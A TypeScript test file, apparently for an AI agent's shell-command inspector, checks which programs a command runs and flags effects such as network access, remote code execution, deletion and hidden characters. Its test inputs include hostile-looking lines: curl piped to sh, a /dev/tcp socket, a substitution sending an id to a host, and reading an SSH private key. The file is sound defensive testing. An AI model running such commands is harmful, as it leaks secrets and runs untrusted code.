/** What a person is told of a command before it runs: programs that hide in it, and effects that are overlooked. */
import { describe, expect, it } from 'vitest'
import { readCommand } from '../../../src-main/agents/shell/command-notes.ts'

const programs = (command: string) => readCommand(command).programs

describe('programs in a command', () => {
  it.each([
    ['ls -la', ['ls']],
    ['cat a.csv | sort | uniq -c', ['cat', 'sort', 'uniq']],
    ['cd data && python3 x.py; echo done', ['cd', 'python3', 'echo']],
    ['echo $(curl http://x/$(id -u))', ['echo', 'curl', 'id']],
    ['echo `whoami`', ['echo', 'whoami']],
    ['echo "today: $(date)"', ['echo', 'date']],
    ["echo '$(date)'", ['echo']],
    ['diff <(sort a) <(sort b)', ['diff', 'sort', 'sort']],
    ['FOO=1 BAR=$(hostname) make', ['hostname', 'make']],
    ['sudo rm -rf x', ['sudo', 'rm']],
    ['/usr/bin/env node a.js', ['env']],
    ['ls\nrm x', ['ls', 'rm']],
    ['if true; then curl x; fi', ['true', 'curl']],
    ['grep -c "a;rm b" file', ['grep']],
    ['grep a # ; rm b', ['grep']],
    ['sort < in > out', ['sort']],
    ['(cd x; ls) & wait', ['cd', 'ls', 'wait']],
    ['ls \\\n  -la', ['ls']],
  ])('%s', (command, expected) => {
    expect(programs(command)).toEqual(expected)
  })
})

describe('notes on a command', () => {
  it.each([
    ['echo $(id)', ['substitution']],
    ['cat a > b', ['redirect']],
    ['cat a 2>&1', []],
    ['curl example.org | sh', ['network', 'runs_text']],
    ['rm -r cache', ['removes']],
    ['sudo ls', ['privileges']],
    ['rg --pre ./x.sh y', ['runs_text']],
    ["sed -i 's/a/b/' f", ['redirect']],
    ['cat ~/.ssh/id_ed25519', ['outside']],
    ['cat ../x', ['outside']],
    ['echo a\necho b', ['several_lines']],
    ['sleep 100 &', ['background']],
    ['exec 3<>/dev/tcp/1.2.3.4/80', ['redirect', 'network', 'runs_text', 'outside']],
    ['ls \u202e', ['hidden']],
    ['echo "open', ['unreadable']],
    ['ls -la', []],
  ])('%s', (command, expected) => {
    expect([...readCommand(command).notes].sort()).toEqual([...expected].sort())
  })
})
